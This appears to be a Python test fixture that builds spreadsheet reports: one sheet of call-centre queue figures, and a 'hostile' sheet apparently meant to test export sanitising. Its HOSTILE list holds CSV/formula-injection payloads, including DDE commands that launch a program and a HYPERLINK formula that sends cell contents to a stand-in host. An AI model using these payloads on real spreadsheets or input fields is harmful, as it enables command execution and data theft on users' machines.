"""Sheets for the tests of papers, among them one whose cells mean harm."""

from __future__ import annotations

from datetime import datetime
from zoneinfo import ZoneInfo

from terms.sheet import Chart, Column, Drawn, Row, Shape, Sheet

CITY = ZoneInfo("America/Sao_Paulo")
NOON = datetime(2026, 11, 25, 12, tzinfo=CITY).timestamp()

COLUMNS = (
    Column("at", "Hora", Shape.INSTANT),
    Column("queue", "Fila"),
    Column("received", "Recebidas", Shape.COUNT),
    Column("wait", "Espera média (s)", Shape.SECONDS),
    Column("level", "NS", Shape.SHARE),
    Column("worth", "Valor", Shape.MONEY),
    Column("day", "Dia", Shape.DAY),
    Column("ratio", "Razão", Shape.NUMBER),
)
ROWS: tuple[Row, ...] = tuple(
    {
        "at": NOON + 3_600 * number,
        "queue": "p156_geral",
        "received": 1_000 + number,
        "wait": 12.25 + number,
        "level": None if number == 2 else 0.85,
        "worth": 1_234.5,
        "day": "2026-11-25",
        "ratio": 0.1234,
    }
    for number in range(5)
)
NOTE = "NS: atendidas em até 15 s ÷ atendidas (R70)."


def a_sheet(drawn: Drawn | None = Drawn.BARS, rows: tuple[Row, ...] = ROWS) -> Sheet:
    """A report of an ordinary kind."""
    chart = None if drawn is None else Chart(drawn, "at", ("received", "wait"), "Por hora")
    return Sheet(
        name="dac-recebidas",
        title="Chamadas recebidas por hora",
        columns=COLUMNS,
        rows=rows,
        totals={"received": 5_010, "level": 0.85},
        chart=chart,
        asked=(("período", "25/11/2026 12:00 a 25/11/2026 17:00"), ("fila", "p156_geral")),
        notes=(NOTE,),
        made_at=NOON,
    )


HOSTILE = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x/?"&A1;"aqui")',
    "+5511966660000",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\n=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
    "%0a=1+1",
    "uma;duas\"três'quatro",
    "linha um\nlinha dois\n\nlinha quatro",
    "a\tb  c   d ",
    "São João & <b>&amp;</b> ]]>",
    "emoji 😀 e 👩‍🚒",
    "{=1+1}",
    "http://example.org/",
    "mailto:a@b",
    "_x0041_",
    "00123",
    "1e5",
    "TRUE",
)
"""Texts that somebody may type as a name, and that a spreadsheet could take for something else."""


def hostile_sheet() -> Sheet:
    """Each of them as a cell, a title, a note."""
    rows = tuple({"text": text, "count": number} for number, text in enumerate(HOSTILE))
    columns = (Column("text", "=1+1"), Column("count", "+2", Shape.COUNT))
    chart = Chart(Drawn.BARS, "text", ("count",), "=1+1")
    return Sheet(
        "hostil", "=1+1", columns, rows, {"text": "=3"}, chart, (("=4", "=5"),), HOSTILE, NOON
    )
